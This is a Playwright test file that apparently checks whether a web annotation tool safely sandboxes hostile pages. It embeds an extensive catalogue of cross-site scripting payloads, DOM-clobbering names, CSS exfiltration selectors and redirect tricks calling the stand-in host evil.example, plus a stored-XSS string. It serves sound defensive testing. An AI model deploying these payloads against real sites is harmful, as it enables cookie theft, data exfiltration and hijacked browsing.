"""Pages that mean harm: they are annotated like others, and nothing of them runs, leads away or is sent."""

from __future__ import annotations

import re
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Dialog, Download, FrameLocator, Locator, expect
from playwright.sync_api import Page as BrowserPage

from siteloom.core.model import Page
from siteloom.sources.example_files import ExampleLine
from siteloom.store.queries.clusters import PageAddress
from siteloom.store.store import Store
from tests.browser.annotator import Annotator
from tests.browser.conftest import Overheard
from tests.browser.serving import make_workspace
from tests.operations.calls import annotate_pages

SITE = "trap.example"
ANNOTATE = f"/clusters/{SITE}/1/annotate"
NAMES = ["Amber", "Birch", "Cedar", "Dogwood", "Elder", "Fir"]
ADDRESSES = {f"https://{SITE}/tree/{number}": name for number, name in enumerate(NAMES)}

# What a script of the page would do if it ran; in such quotes as stand well within any others.
STRIKE = (
    "try{top.document.title=`struck`}catch(e){}try{top.name=`struck`}catch(e){}"
    "try{document.cookie=`struck=1`}catch(e){}try{localStorage.struck=1}catch(e){}"
    "try{fetch(`/struck`)}catch(e){}try{open(`https://evil.example/open`)}catch(e){}"
    "new Image().src=`https://evil.example/struck`;alert(`struck`)"
)
NOTICED = "[document.title, document.cookie, localStorage.length, window.name]"

# What the application itself asks for while a template is annotated.
OWN_REQUESTS = re.compile(
    r"/(?:static/.+|clusters/.+/annotate(?:\?page=\d+)?|pages/\d+/(?:tree|frame)(?:\?version=\w+)?"
    r"|api/clusters/.+/(?:workbench|workbench/known|events|pages/\d+/values|attributes/\w+))"
)

HEAD = """
<base href="https://evil.example/base/" target=_top>
<meta http-equiv=refresh content="0;url=https://evil.example/refresh">
<meta http-equiv=refresh content="1;url=javascript:STRIKE">
<meta http-equiv=Content-Security-Policy content="script-src *"><meta http-equiv=Set-Cookie
content="struck=1">
<link rel=stylesheet href=https://evil.example/link.css><link rel=stylesheet
href="data:text/css,h1{display:none}">
<link rel=prefetch href=https://evil.example/prefetch><link rel=preconnect href=https://evil.example>
<link rel=manifest href=https://evil.example/manifest><link rel=icon href=https://evil.example/icon>
<script>STRIKE</script><script src=https://evil.example/script.js></script>
<script type=module>import "https://evil.example/module.js"; STRIKE</script>
<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/speculation"]}]}</script>
<style>
@import "https://evil.example/import.css"; @import url(https://evil.example/import-url.css);
@font-face { font-family: x; src: url(https://evil.example/font.woff) }
body { font-family: x, serif; background: url(https://evil.example/background); cursor:
url(https://evil.example/c), auto }
h1::before { content: url(https://evil.example/content) } #by { background:
u\\72l(https://evil.example/escaped) }
div:not([class]), html > :last-child:not(body), [aria-hidden] { display: none !important; opacity: 0
!important }
html > div { all: unset !important; transform: scale(0) !important; z-index: -1 !important }
html { pointer-events: none } body { pointer-events: auto; user-select: none; -webkit-user-select: none }
input[value^="a"] { background: url(https://evil.example/typed-a) }
#veil { position: fixed; inset: 0; z-index: 2147483647; background: rgb(255 255 255 / 0.9) }
.topbar, .bottombar { position: fixed; left: 0; right: 0; background: white }
.trap { min-height: 12px; min-width: 60px }
</style>
"""

BODY = """
<div class=topbar style="top:0"><button class=trap data-part=finish onclick="STRIKE">Finish</button></div>
<h1 id=name onclick="STRIKE" onmouseover="STRIKE" onmousedown="STRIKE" onpointerenter="STRIKE">NAME</h1>
<p id=by class=trap style="background-image:url(https://evil.example/style)" data-siteloom=0
   data-siteloom-href="javascript:STRIKE">by the river</p>
<ul>
<li><a class=trap href="javascript:STRIKE">script</a>
<li><a class=trap href=" java&#9;scr&#10;ipt:STRIKE">odd script</a>
<li><a class=trap href="data:text/html,<script>STRIKE</script>">data</a>
<li><a class=trap href="https://evil.example/top" target=_top>top</a>
<li><a class=trap href="https://evil.example/new" target=_blank rel=opener>new</a>
<li><a class=trap href="https://evil.example/ping" ping="https://evil.example/pinged /struck">ping</a>
<li><a class=trap href="/struck" download="x.html">download</a>
<li><a class=trap href="//evil.example/s" style="position:relative;z-index:9" accesskey=n autofocus tabindex=1
       onfocus="STRIKE">focus</a>
</ul>
<img class=trap alt=picture src=https://evil.example/image srcset="https://evil.example/set 2x"
onerror="STRIKE">
<img class=trap alt=relative src=missing.png onerror="STRIKE" onload="STRIKE">
<details class=trap open ontoggle="STRIKE"><summary class=trap
onclick="STRIKE">more</summary>unfolded</details>
<form id=attributes name=body action=https://evil.example/form method=post target=_top onsubmit="STRIKE">
<input class=trap name=parentElement type=password onfocus="STRIKE" onkeydown="STRIKE">
<input class=trap name=closest id=closest value=abc autofocus onfocus="STRIKE">
<input class=trap type=image src=https://evil.example/input formaction="javascript:STRIKE">
<input class=trap type=file name=getAttribute><input class=trap name=childNodes>
<button class=trap formaction=https://evil.example/formaction formtarget=_blank>send</button>
<input class=trap type=submit value="send, too"></form>
<img name=body alt=one><img name=documentElement alt=two><img name=querySelectorAll alt=three>
<img name=defaultView alt=four><form name=createElement></form><object id=replaceChild
name=importNode></object>
<a id=defaultView href="javascript:STRIKE"></a><a id=location name=location></a>
<iframe class=trap src=https://evil.example/frame name=top></iframe>
<iframe class=trap srcdoc="<script>STRIKE</script><base target=_top>" onload="STRIKE"></iframe>
<iframe class=trap src="javascript:STRIKE"></iframe>
<object class=trap data=https://evil.example/object><param name=x><embed
src=https://evil.example/embed></object>
<embed class=trap src="data:text/html,<script>parent.STRIKE</script>">
<video class=trap src=https://evil.example/video poster=https://evil.example/poster autoplay
onloadstart="STRIKE">
<source src=https://evil.example/source onerror="STRIKE"><track src=https://evil.example/track
default></video>
<svg class=trap width=60 height=20 onload="STRIKE"><script>STRIKE</script><a xlink:href="javascript:STRIKE">
<text y=10>drawn</text><animate attributeName=href values="javascript:STRIKE" begin=0s /></a>
<image href=https://evil.example/svg-image width=9 height=9 /><use href=https://evil.example/use#x />
<set attributeName=onmouseover to="STRIKE" />
<foreignObject width=60 height=20><iframe src=https://evil.example/foreign></iframe>
<img src=x onerror="STRIKE"></foreignObject></svg>
<math class=trap href="javascript:STRIKE"><mtext><mglyph><style><!--</style><img title="--><img src=x
onerror=STRIKE>">
</mtext></math>
<template><script>STRIKE</script><img src=https://evil.example/template onerror="STRIKE"></template>
<noscript><p title="</noscript><img src=x onerror=STRIKE>"><meta http-equiv=refresh
content="0;url=/struck"></noscript>
<marquee class=trap onstart="STRIKE">moving</marquee><div class=trap contenteditable
onbeforeinput="STRIKE">edit</div>
<dialog class=trap open onclose="STRIKE"><form method=dialog><button autofocus>sign in
again</button></form></dialog>
<p class=trap style="animation: x 1s; width: 60px" onanimationstart="STRIKE" onpointerdown="STRIKE">price
PRICE</p>
<xmp><script>STRIKE</script></xmp><textarea class=trap
onfocus="STRIKE"></textarea><script>STRIKE</textarea></script>
NESTED
<p>HUGE</p>
<div id=veil class=trap onmousemove="STRIKE">We value your privacy</div>
"""


def hostile(name: str, number: int) -> str:
    parts = {
        "STRIKE": STRIKE,
        "NAME": name,
        "PRICE": str(number),
        "NESTED": f"{'<i>' * 400}deep{'</i>' * 400}",
        "HUGE": "very long " * 10_000,
    }
    page = (
        f"<!DOCTYPE html><html onload='STRIKE'><head><title>{name}</title>{HEAD}</head>"
        f"<body onload='STRIKE' onclick='STRIKE' onbeforeunload='STRIKE' onpageshow='STRIKE'>{BODY}"
    )
    for part, text in parts.items():
        page = page.replace(part, text)
    return page


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    pages = [
        Page.from_text(url, hostile(name, number)) for number, (url, name) in enumerate(ADDRESSES.items())
    ]
    make_workspace(tmp_path / ".siteloom", pages)
    return tmp_path / ".siteloom"


def seen_traps(shown: BrowserPage | FrameLocator) -> list[Locator]:
    return [trap for trap in shown.locator(".trap:not(#veil)").all() if trap.is_visible()]


def cookies(page: BrowserPage) -> set[str]:
    return {cookie["name"] for cookie in page.context.cookies()}


class Harm:
    """What a page does that it may not do."""

    def __init__(self, page: BrowserPage) -> None:
        self.seen: list[str] = []
        page.on("dialog", self._dismiss)
        page.on("download", self._refuse)
        page.context.on("page", lambda new: self.seen.append(f"page {new.url}"))

    def _dismiss(self, dialog: Dialog) -> None:
        self.seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _refuse(self, download: Download) -> None:
        self.seen.append(f"download {download.url}")


def test_a_hostile_page_is_annotated_and_does_nothing(page: BrowserPage, overheard: Overheard) -> None:
    harm = Harm(page)
    page.goto(ANNOTATE)
    annotator = Annotator(page)
    annotator.wait()
    before = page.evaluate(NOTICED)
    annotator.add("name")
    heading = annotator.frame.locator("h1")
    heading.hover(force=True)  # what is outlined is the veil before it
    annotator.press("h")

    for trap in seen_traps(annotator.frame):
        trap.click(force=True)
    for link in annotator.frame.locator("a.trap").all():
        link.click(button="middle")
    annotator.frame.get_by_text("top", exact=True).click(modifiers=["Control"])
    annotator.frame.get_by_text("new", exact=True).dblclick()
    annotator.wait()

    pictures = []
    for act in (heading.hover, heading.click):
        act()
        annotator.wait()
        page.mouse.move(0, 0)
        pictures.append(page.locator("iframe").screenshot())
    assert pictures[0] != pictures[1], "the value is framed, whatever the styles of the page say"
    assert annotator.values("name") == [ADDRESSES[annotator.url()]]
    for _ in range(2):
        annotator.go_to_next_page()
        assert annotator.values("name") == [ADDRESSES[annotator.url()]]
    annotator.frame.locator("input.trap").first.click(force=True)
    page.keyboard.press("Enter")
    page.wait_for_timeout(1_500)  # a redirection takes its time
    assert page.evaluate(NOTICED) == before
    assert cookies(page) == {"siteloom"}
    assert re.search(r"/annotate\?page=\d+$", page.url)
    assert harm.seen == []
    paths = [re.sub(r"^https?://[^/]+", "", address) for address in overheard.addresses]
    assert [path for path in paths if not OWN_REQUESTS.fullmatch(path)] == []
    # What was said is kept.
    page.goto(ANNOTATE)
    annotator.wait()
    assert annotator.values("name") == [ADDRESSES[annotator.url()]]
    assert annotator.is_settled()


@pytest.mark.parametrize("part", ["tree", "frame"])
def test_its_parts_do_nothing_by_themselves(
    page: BrowserPage, workspace_store: Store, overheard: Overheard, part: str
) -> None:
    harm = Harm(page)
    (number,) = workspace_store.page_ids([PageAddress(SITE, next(iter(ADDRESSES)))])
    page.goto(f"/pages/{number}/{part}")
    address = page.url
    for trap in seen_traps(page):
        trap.click(force=True)
    page.keyboard.press("Enter")
    page.wait_for_timeout(1_500)
    assert page.url == address
    assert overheard.addresses == [address]
    assert cookies(page) == {"siteloom"}
    assert harm.seen == []
    overheard.forgive(404)  # the icon that browsers look for


STORED = "'\"></script><img src=x onerror=alert(1)><svg onload=alert(1)>"


def test_what_was_said_of_pages_is_shown_as_text(
    page: BrowserPage, workspace_store: Store, overheard: Overheard
) -> None:
    """Names of attributes, values and jobs, where scripts put them on pages."""
    harm = Harm(page)
    urls = list(ADDRESSES)
    annotate_pages(
        workspace_store, [ExampleLine(url, {STORED: (ADDRESSES[url],)}, (), {}) for url in urls[:2]]
    )
    job = workspace_store.jobs.add("ingest", {"upload": "x", "name": STORED}, STORED)
    workspace_store.jobs.start(job.id)
    workspace_store.jobs.progress(job.id, 1, 2, STORED)
    page.goto(ANNOTATE)
    annotator = Annotator(page)
    annotator.wait()
    expect(page.get_by_text(STORED).first).to_be_visible()
    for path in (f"/jobs/{job.id}", f"/search?words={quote(STORED)}", "/review", "/records"):
        page.goto(path)
        page.wait_for_load_state()
    assert page.locator("svg[onload], img[onerror]").count() == 0
    assert harm.seen == []
    overheard.forgive(400)
